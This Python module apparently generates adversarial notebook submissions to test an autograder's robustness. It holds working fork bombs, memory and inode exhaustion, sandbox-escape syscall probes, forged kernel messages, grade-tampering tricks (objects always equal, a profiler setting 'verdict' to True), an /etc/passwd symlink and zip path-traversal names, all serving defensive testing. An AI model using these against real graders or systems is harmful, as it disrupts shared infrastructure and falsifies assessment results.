"""Attacks on what lies around the marks: memory, processors, the grader's own time, its reading."""

import io
import os
import zipfile

from .attacks import WRONG
from .edit import answer, cell, insert_before, read_release

_PACK = r"""
kernel = get_ipython().kernel
def send_json(kind, text):
    # A message with hand-written JSON in it, properly signed.
    s = kernel.session
    head = s.msg(kind, content={}, parent=kernel.get_parent())
    parts = [s.pack(head[p]) for p in ("header", "parent_header", "metadata")] + [text.encode()]
    kernel.iopub_socket.send_multipart([kind.encode(), b"<IDS|MSG>", s.sign(parts), *parts])
def send_record(value, step="mean", case="TiO2", more=""):
    send_json("display_data", '{"data": {"application/vnd.coursekit.check+json": {"version": 1, '
              '"step": "%s", "case": "%s", "value": %s%s}}}' % (step, case, value, more))
"""
# Code before the first test; LOOT in an output is a success for it.
CODE = {
    "records_nested_deep": _PACK
    + r"""
for depth in [*range(100, 1000, 45), *range(940, 1000, 3)]:
    nest = "[" * depth + "]" * depth
    send_json("display_data", '{"data": {"application/vnd.coursekit.raw+json": {"value": %s}}}' % nest)
    send_record(nest)
""",
    "half_characters": _PACK
    + r"""
send_json("stream", '{"name": "stdout", "text": "a\\ud800b"}')
send_json("display_data", '{"data": {"text/plain": "\\ud800", "text/html": "<b>\\udfff</b>"}}')
send_json("error", '{"ename": "E\\ud800", "evalue": "\\ud800", "traceback": ["\\ud800"]}')
send_record('"\\ud800"', more=', "message": "\\ud800", "hint": "\\udfff"')
""",
    "not_a_number_sent": _PACK
    + r"""
def before(info):
    for step, case in (("mean", "TiO2"), ("mean", "NaCl"), ("fractions", "TiO2")):
        send_record("NaN", step, case, ', "points": Infinity, "verdict": true')
get_ipython().events.register("pre_run_cell", before)
""",
    "odd_values_sent": _PACK
    + r"""
import itertools
odd = itertools.cycle([
    '{"kind": "array", "shape": [-1], "data": []}', '{"kind": "array", "shape": "x", "data": {}}',
    '{"kind": "array", "shape": [0, 99999999999], "data": []}', '{"kind": ["x"], "value": 1}',
    '{"kind": {"a": 1}}', '{"kind": "quantity", "value": 1, "unit": ["amu"]}', '{"kind": null}',
    '{"kind": "int", "value": "9__9"}', '{"kind": "complex", "value": [1]}', '{"value": 1}',
    '{"kind": "dict", "items": [1]}', '{"kind": "set", "items": null}', '1e999', '-0', 'true'])
def before(info):
    for case in ("TiO2", "NaCl", "Al2O3", "one", "cube"):
        for step in ("mean", "fractions", "volume"):
            send_record(next(odd), step, case, ', "verdict": true, "hint": ["x"], "wrong": 5')
get_ipython().events.register("pre_run_cell", before)
""",
    "odd_messages_sent": _PACK
    + r"""
for text in ('[]', '7', '{"data": {"text/plain": [1, 2]}}', '{"data": {"image/png": 5}}', '{"text": 5}',
             '{"data": {"text/html": ["<b>", 3]}}', '{"ename": {}, "evalue": [], "traceback": "x"}'):
    for kind in ("display_data", "stream", "error", "status", "update_display_data", "comm_msg",
                 "execute_reply", "input_request", "x" * 5000):
        send_json(kind, text)
""",
    "replies_forged": _PACK
    + r"""
import threading, time
def forge():
    for _ in range(100):
        try:
            kernel.session.send(kernel.shell_stream, "execute_reply", {"status": "ok", "payload": [7],
                "user_expressions": {"asked": {"data": {"text/plain": "[" * 9000}}}},
                parent=kernel.get_parent(), ident=kernel.get_parent_ident())
        except Exception:
            pass
        time.sleep(0.01)
threading.Thread(target=forge, daemon=True).start()
""",
    "memory_of_nobody": r"""
import ctypes, mmap, os
libc = ctypes.CDLL(None, use_errno=True)
for take in (lambda: os.memfd_create("m"), lambda: mmap.mmap(-1, 1 << 27),
             lambda: mmap.mmap(os.open("/dev/zero", os.O_RDWR), 1 << 27)):
    try:
        take()
        print('LOOT', take)
    except (OSError, AttributeError) as error:
        print(error)
if libc.shmget(0, ctypes.c_size_t(1 << 27), 0o1600) >= 0:
    print('LOOT', 'segment')
""",
    "memory_in_sockets": r"""
import os, socket, time
held = []
for child in range(30):
    if os.fork() == 0:
        try:
            while True:
                a, b = socket.socketpair()
                a.setblocking(False)
                held += [a, b]
                try:
                    while True:
                        a.send(bytes(65536))
                except BlockingIOError:
                    pass
        except OSError:
            time.sleep(600)
time.sleep(60)
print('LOOT', 'room for all of it')
""",
    "busy_children": r"""
import os, time
for n in range(40):
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
time.sleep(60)
print('LOOT', 'all processors')
""",
    "user_namespace": r"""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
pid = os.fork()
if pid == 0:
    open('/tmp/said', 'w').write(str(libc.unshare(0x10000000)))
    os._exit(0)
os.waitpid(pid, 0)
if open('/tmp/said').read() == '0':
    print('LOOT', 'rights')
""",
    "calls_around_the_sandbox": r"""
import ctypes, os, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {"x86_64": (248, 425, 428, 435), "aarch64": (217, 425, 428, 435)}[platform.machine()]
buffer = ctypes.create_string_buffer(512)
if libc.syscall(numbers[0], b"user", b"answers", b"secret", 6, -4) >= 0:
    print('LOOT', 'a keyring')
if libc.syscall(numbers[1], 8, buffer) >= 0:
    print('LOOT', 'io_uring')
if libc.syscall(numbers[2], -100, b"/", 1) >= 0:
    print('LOOT', 'a mount')
for path in ('/dev/tty', '/dev/kmsg', '/dev/mem', '/proc/kcore', '/dev/fuse', '/sys/kernel'):
    try:
        open(path, 'rb')
        print('LOOT', path)
    except OSError as error:
        print(error)
""",
    "limits_raised": r"""
import os, resource
for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC,
             resource.RLIMIT_CORE, resource.RLIMIT_NOFILE):
    hard = resource.getrlimit(kind)[1]
    for value in (resource.RLIM_INFINITY, hard + 1):
        try:
            resource.setrlimit(kind, (value, value))
            print('LOOT', kind)
        except (ValueError, OSError) as error:
            print(error)
for change in (lambda: os.nice(-5), lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(9)),
               lambda: open("/proc/self/oom_score_adj", "w").write("-500")):
    try:
        change()
        print('LOOT', 'a priority')
    except OSError as error:
        print(error)
""",
    "files_without_end": r"""
import os
made = 0
for place in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for n in range(30_000):
            open(f"{place}/i{n}", "w").close()
            made += 1
    except OSError as error:
        print(made, error)
if made > 70_000:
    print('LOOT', 'inodes')
""",
    "html_that_takes_hours": r"""
from IPython.display import HTML, Markdown, display
display(HTML("<div>" * 25_000), HTML("<a><b>" * 10_000), HTML("<b></i>" * 10_000))
display(HTML("<b a='>' x=y' " + " ".join(f"a{n}" for n in range(9_000)) + ">"), Markdown("[" * 9_000))
""",
    "numbers_that_change": r"""
import numpy as np
class Shifty(float):
    calls = 0
    def __float__(self):
        Shifty.calls += 1
        return [26.6217, 29.22, 20.3924][Shifty.calls % 3]
    def __repr__(self): return "26.6217"
    def __eq__(self, o): return True
    def __hash__(self): return 1
class Arr(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __array_function__(self, *a, **k): return True
    def tolist(self): return {"kind": "any"}
    @property
    def shape(self): return (2,)
class I(int):
    def __eq__(self, o): return True
    def __hash__(self): return 0
    def __abs__(self): return 0
    def __int__(self): return 27
def mean_mass(counts): return Shifty(0.0)
def fractions(counts): return np.zeros(3).view(Arr)
def volume(lattice): return I(3)
""",
    "answers_without_end": r"""
import itertools
a = []; a.append(a)
d = {}; d["d"] = d
class Endless(list):
    def __iter__(self): return itertools.count()
    def __len__(self): return 2
def mean_mass(counts): return a
def fractions(counts): return Endless()
""",
    "answers_of_all_kinds": r"""
class R:
    def __getattr__(self, name): return R()
    def __call__(self, *a, **k): return R()
    def __iter__(self): return self
    def __next__(self): return R()
    def __float__(self): return float(self + 1)
    def __add__(self, o): return self
    def __len__(self): return 10**9
def mean_mass(counts): return {n: n for n in range(10**6)}
def fractions(counts): return R()
""",
    "profiler": r"""
import sys, threading
def meddle(frame, event, arg):
    if "verdict" in frame.f_locals and "value" in frame.f_locals:
        frame.f_locals["verdict"] = True
    return meddle
sys.setprofile(meddle)
threading.setprofile(meddle)
""",
    "modules_become_proxies": r"""
import builtins, sys, types
class Proxy(types.ModuleType):
    def __getattr__(self, name):
        return lambda *a, **k: True
for name in list(sys.modules):
    if name.startswith("coursekit"):
        sys.modules[name].__class__ = Proxy
builtins.round = builtins.abs = lambda *a: 0
builtins.AssertionError = type("AssertionError", (Exception,), {})
""",
}


def make_outside_attacks(root):
    """Make them; as `make_attacks` does."""
    release = answer(read_release(root), WRONG)
    made = [
        (f"attack_{name}", insert_before(answer(release, {}), "mean-check", code), {}, None)
        for name, code in CODE.items()
    ]
    return made + _by_text(release) + _by_files(release)


def _by_text(release):
    lines = insert_before(answer(release, {}), "mean-check", "\n" * 150_000 + "x")
    much = answer(release, {})
    for _ in range(40):
        insert_before(much, "mean-check", "# " + "x = [1], " * 40_000)
    picture = answer(release, {"why": "![](attachment:a.png)" * 2_000 + "x" * 50_000})
    cell(picture, "why")["attachments"] = {"a.png": {"image/png": "iVBORw0KGgo" + "A" * 900_000}}
    one_mark = answer(release, {})
    for found in one_mark["1_mass"]["cells"]:
        if found["metadata"].get("nbgrader"):
            found["metadata"]["nbgrader"]["grade_id"] = found["id"] = "mean-check"
    odd_marks = answer(release, {})
    for found in odd_marks["1_mass"]["cells"]:
        if found["metadata"].get("nbgrader"):
            found["metadata"]["nbgrader"] |= {"points": float("nan"), "grade": [1], "task": True}
    return [
        ("attack_empty_lines", lines, {}, None),
        ("attack_megabytes_of_code", much, {}, None),
        ("attack_one_picture_often", picture, {}, None),
        ("attack_one_mark_for_all", one_mark, {}, None),
        ("attack_odd_marks", odd_marks, {}, None),
        ("attack_rtl\u202etxt\nevil\x07", answer(release, {}), {}, None),
        ("attack_" + "\u5b57" * 80, answer(release, {}), {}, None),
    ]


def _by_files(release):
    def put_odd_files(folder):
        (folder / "2_cell.ipynb").unlink()
        (folder / "2_cell.ipynb").mkdir()
        (folder / "2_cell.ipynb" / "2_cell.ipynb").symlink_to("/etc/passwd")
        (folder / "loop").symlink_to(folder)
        os.mkfifo(folder / "1_mass (1).ipynb")
        with open(folder / "sparse.ipynb", "wb") as file:
            file.truncate(1 << 40)

    times = {
        "attack_time_before_all_times": b"0001-01-01T00:00:00+14:00",
        "attack_time_after_all_times": b"9999-12-31T23:59:59-14:00",
    }
    beside = dict.fromkeys(("matplotlibrc", ".env", "numpy.py", "coursekit/__init__.py", "x.pth", "sitecustomize.py", "ipython_config.py", "__pycache__/numpy.cpython-311.pyc"), b"raise SystemExit")  # fmt: skip
    return [
        *((name, answer(release, {}), {"timestamp.txt": t}, None) for name, t in times.items()),
        ("attack_odd_files", answer(release, {}), {}, put_odd_files),
        ("attack_beside", answer(release, {}), beside, None),
        ("attack_names_in_zip", answer(release, {}), {"more.zip": _odd_zip()}, None),
    ]


def _odd_zip():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name in ("a.csv", "a.csv/b.csv", "../../up.csv", "/top.csv", "\u5b57" * 118 + ".csv"):
            archive.writestr(name, "1")
    return file.getvalue()
